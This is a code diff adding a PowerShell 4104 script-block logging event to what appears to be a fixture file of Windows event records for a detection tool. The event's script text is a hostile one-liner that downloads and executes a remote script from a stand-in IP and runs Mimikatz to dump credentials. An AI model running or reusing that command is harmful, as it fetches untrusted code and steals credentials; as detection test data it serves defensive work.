@@ -514,3 +514,24 @@ export const sysmon16Config = sysmon(16, 'Sysmon config state changed', 88006, {
 
 /** Events that an office PC logs all day and that should raise nothing. */
 export const benign = { security4624Console, sysmon1Notepad, defender1001 };
+
+// ---- PowerShell (channel Microsoft-Windows-PowerShell/Operational) ----
+
+/** 4104 script block logging: a script that loads Mimikatz into memory. */
+export const powershell4104 = shipped({
+  timestamp: '2026-11-22T08:38:14.7730012Z',
+  channel: 'Microsoft-Windows-PowerShell/Operational',
+  provider: 'Microsoft-Windows-PowerShell',
+  providerGuid: '{A0C1853B-5C40-4B15-8766-3CF1C58F985A}',
+  code: 4104,
+  task: 'Execute a Remote Command',
+  recordId: 31002,
+  level: 'warning',
+  data: {
+    MessageNumber: '1',
+    MessageTotal: '1',
+    ScriptBlockText: "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.80/a.ps1'); Invoke-Mimikatz -DumpCreds",
+    ScriptBlockId: '7d4f1e3a-9b2c-4c1d-8e5f-0a1b2c3d4e5f',
+    Path: '',
+  },
+});
